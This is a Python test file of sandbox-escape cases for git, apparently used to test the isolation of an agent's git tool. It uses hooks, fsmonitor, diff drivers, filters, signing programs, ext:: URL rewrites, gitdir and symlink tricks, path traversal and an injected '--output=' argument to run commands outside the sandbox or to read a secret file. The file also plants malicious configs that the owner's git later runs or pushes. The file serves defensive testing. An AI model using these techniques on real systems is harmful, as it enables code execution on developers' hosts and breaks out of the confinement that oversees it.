"""Repositories that run code, or point out, when git looks at them: the sandbox's, then the owner's, which also pushes."""

from typing import Any

from tests.attacks.attack import CHORE, WON, Attack, fill_places, shell
from tests.attacks.cases.paths import tool_attack
from tests.attacks.stage import Stage
from tests.attacks.subject import Subject

_NEW = "rm -rf r; git init -q -b main r; cd r; echo one > a; git add a; git -c user.name=x -c user.email=x@x commit -q -m one; echo two > a; "
_TOUCH = "touch {outside}/new.txt"


def _git(name: str, tool: str, first: str, **arguments: Any) -> Attack:
    attack = tool_attack(name, tool, first, **{"repo": "r", **arguments})
    return Attack("git", attack.name, attack.act)


_EVIL = "printf '[core]\\nrepositoryformatversion = 0\\nbare = false\\nworktree = .\\nfsmonitor = touch {outside}/new.txt;\\n'"
_MAKE = f"chmod -f 700 new; rm -rf x new y; git init -q --bare x && {_EVIL} > x/config"


_RUNS = f"printf '#!/bin/sh\\n{_TOUCH}\\n'"
# git reads these settings at a push: a program on the way to the other side.
_AWAY = f"printf '[core]\\nrepositoryformatversion = 0\\nbare = false\\n[protocol]\\nallow = always\\n[url \"ext::sh -c {_TOUCH.replace(' ', '%% ')}%% \"]\\ninsteadOf = /\\n'"


def _owner(name: str, repo: str, command: str, *, pushes: bool = False) -> Attack:
    """A command in a repository of the host, which the owner's git visits afterwards."""

    async def act(subject: Subject, stage: Stage) -> str:
        enter = f"cd /repos/{repo} 2>/dev/null || cd {stage.base / repo}"
        said = await subject.run(f"{enter}; {fill_places(command, stage)}")
        if not stage.ran:  # else a command without walls has done it itself
            (stage.owner_pushes if pushes else stage.owner_looks)(repo)
            said += f"\n{WON}\nthe owner's git ran it" if stage.ran else ""
        return said

    verb = "push" if pushes else "git"
    return Attack("git", f"the owner's {verb} in {repo}: {name}", act)


def _pushed(repo: str, git: str, tree: str) -> tuple[Attack, ...]:
    """What the owner's push would run of a repository, `git` its git directory and `tree` a working tree."""
    hook = f"mkdir -p HOOKS; {_RUNS} > HOOKS/pre-push; chmod +x HOOKS/pre-push"
    made = "rm -rf new; git init -q new; cd new; git -c user.name=x -c user.email=x@x commit -q --allow-empty -m x; "
    return (
        _owner("a hook", repo, hook.replace("HOOKS", f"{git}/hooks"), pushes=True),
        _owner("another address", repo, f"{_AWAY} > {git}/config", pushes=True),
        _owner("a hook of one that is made", repo, f"cd {tree}; {made}{hook.replace('HOOKS', '.git/hooks')}", pushes=True),
        _owner("another address of one that is made", repo, f"cd {tree}; {made}{_AWAY} > .git/config", pushes=True),
    )  # fmt: skip


ATTACKS = (
    _git("a hook", "git_commit", _NEW + f"echo '{_TOUCH}' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit", message="m"),
    _git("hooks elsewhere", "git_commit", _NEW + f"mkdir h; echo '{_TOUCH}' > h/post-commit; chmod +x h/post-commit; git config core.hooksPath h", message="m"),
    _git("a monitor", "git_status", _NEW + f"git config core.fsmonitor '{_TOUCH};'"),
    _git("an external diff", "git_diff", _NEW + f"git config diff.external '{_TOUCH};'"),
    _git("a diff driver", "git_diff", _NEW + f"echo '* diff=x' > .gitattributes; git config diff.x.command '{_TOUCH};'"),
    _git("a text converter", "git_diff", _NEW + "echo '* diff=x' > .gitattributes; git config diff.x.textconv 'cat {outside}/secret.txt; cat'"),
    _git("a filter", "git_commit", _NEW + f"echo '* filter=x' > .gitattributes; git config filter.x.clean '{_TOUCH}; cat'", message="m"),
    _git("a signing program", "git_commit", _NEW + f"git config commit.gpgSign true; printf '#!/bin/sh\\n{_TOUCH}' > sign; chmod +x sign; git config gpg.program ./sign", message="m"),
    _git("a configuration from outside", "git_diff", _NEW + "git config include.path {outside}/secret.txt"),
    _git("a working tree outside", "git_diff", _NEW + "git config core.worktree {hidden}; git add -N private.txt"),
    _git("a .git that points outside", "git_diff", "rm -rf r; mkdir r; echo 'gitdir: {hidden}/.git' > r/.git", revision="HEAD"),
    _git("a linked .git", "git_diff", "rm -rf r; mkdir r; ln -s {hidden}/.git r/.git", revision="HEAD"),
    _git("objects from outside", "git_diff", _NEW + "echo {hidden}/.git/objects > .git/objects/info/alternates", revision="{blob}"),
    _git("a repository outside", "git_diff", "true", repo="{hidden}", revision="HEAD"),
    _git("by ..", "git_diff", "true", repo="../../../../outside/repo", revision="HEAD"),
    _git("an option for a revision", "git_diff", _NEW, revision="--output={outside}/new.txt"),
    _git("files outside, compared", "git_diff", _NEW, revision="--no-index", path="/dev/null {outside}/secret.txt"),
    _git("a path outside", "git_commit", _NEW, message="m", files=["../../../../outside/secret.txt"]),
    _git("a commit to a read-only repository", "git_commit", "true", repo="{repo}", message="m"),
    _git("a mount point through a link (CVE-2026-87766)", "git_status", "rm -rf r; mkdir r; ln -s /oldroot{outside}/made r/.git; ln -sfn /oldroot{outside}/made .git; ln -sfn /oldroot{outside}/made .voltaire"),
    _owner("settings of its .git", "app", f"{_EVIL} > .git/config"),
    _owner("a .git moved away", "app", f"mv .git x; git init -q; {_EVIL} > .git/config"),
    _owner("a bare repository is made", "app", _MAKE),
    _owner("a repository is made in depth", "app", f"{_MAKE}; mkdir -p new/1/2/3/4/5/6; mv x new/1/2/3/4/5/6/.git"),
    _owner("it cannot be read", "app", f"{_MAKE}; mkdir new; mv x new/.git; chmod 000 new"),
    _owner("a file .git to one that is made", "app", f"{_MAKE}; mkdir new; echo gitdir: ../x > new/.git"),
    _owner("a link .git to one that is made", "app", f"{_MAKE}; mkdir new; ln -s ../x new/.git"),
    _owner("a file .git into the workspace", "app", f"(cd /workspace && {_MAKE}); mkdir new; echo gitdir: $(grep ' /workspace ' /proc/self/mountinfo | cut -d' ' -f4)/x > new/.git"),
    _owner("a commondir that is made", "app", f"{_MAKE}; mkdir new; echo ref: refs/heads/x > new/HEAD; echo ../x > new/commondir"),
    _owner("settings by another name", "app", f"git init -q new; {_EVIL} > y; rm new/.git/config; ln y new/.git/config"),
    _owner("its settings", "hub", f"{_EVIL} > config"),
    _owner("its commondir", "hub", f"{_MAKE}; echo x > commondir"),
    _owner("the .git of its working tree", "hub", f"cd tree; {_MAKE}; rm -f .git; echo gitdir: x > .git"),
    _owner("a repository in its working tree", "hub", f"cd tree; {_MAKE}"),
    _owner("its settings", "dot", f"{_EVIL} > .bare/config"),
    _owner("its git directory moved away", "dot", f"mv .bare x; git init -q --bare .bare; {_EVIL} > .bare/config"),
    _owner("the file .git", "dot", f"{_MAKE}; rm -f .git; echo gitdir: x > .git"),
    _owner("settings of a working tree", "dot", f"{_MAKE}; echo ../../../x > .bare/worktrees/tree/commondir"),
    _owner("settings of one in depth", "deep", f"{_EVIL} > in/er/.mirror/config"),
    _owner("one in depth moved away", "deep", f"mv in y; mkdir -p in/er; git init -q --bare in/er/.mirror; {_EVIL} > in/er/.mirror/config"),
    _owner("a repository beside one in depth", "deep", f"cd in/er; {_MAKE}"),
    _owner("settings elsewhere", "apart", f"{_EVIL} > common/config"),
    _owner("its commondir", "apart", f"{_MAKE}; echo ../x > own/commondir"),
    _owner("the file .git", "apart", f"{_MAKE}; rm -f .git; echo gitdir: x > .git"),
    _owner("settings of its submodule", "whole", f"{_EVIL} > .git/modules/tree/config"),
    _owner("the file .git of its submodule", "whole", f"cd tree; {_MAKE}; rm -f .git; echo gitdir: x > .git"),
    _owner("its submodule moved away", "whole", f"mv tree y; git init -q tree; {_EVIL} > tree/.git/config"),
    _owner("settings of the one that borrows", "lent", f"{_EVIL} > tree/.git/config"),
    _owner("the one that borrows moved away", "lent", f"mv tree y; git init -q tree; {_EVIL} > tree/.git/config"),
    *_pushed("app", ".git", "."),
    *_pushed("hub", ".", "tree"),
    *_pushed("dot", ".bare", "tree"),
    *_pushed("deep", "in/er/.mirror", "in"),
    *_pushed("apart", "common", "."),
    *_pushed("whole", ".git/modules/tree", "tree"),
    *_pushed("lent", "tree/.git", "tree"),
    shell(CHORE, "remove what was made", "cd /repos && chmod -f 700 app/new; rm -rf */x */y */new */*/x */*/new */*/*/x"),
    shell(CHORE, "remove it", "rm -rf r .git .voltaire"),
)  # fmt: skip
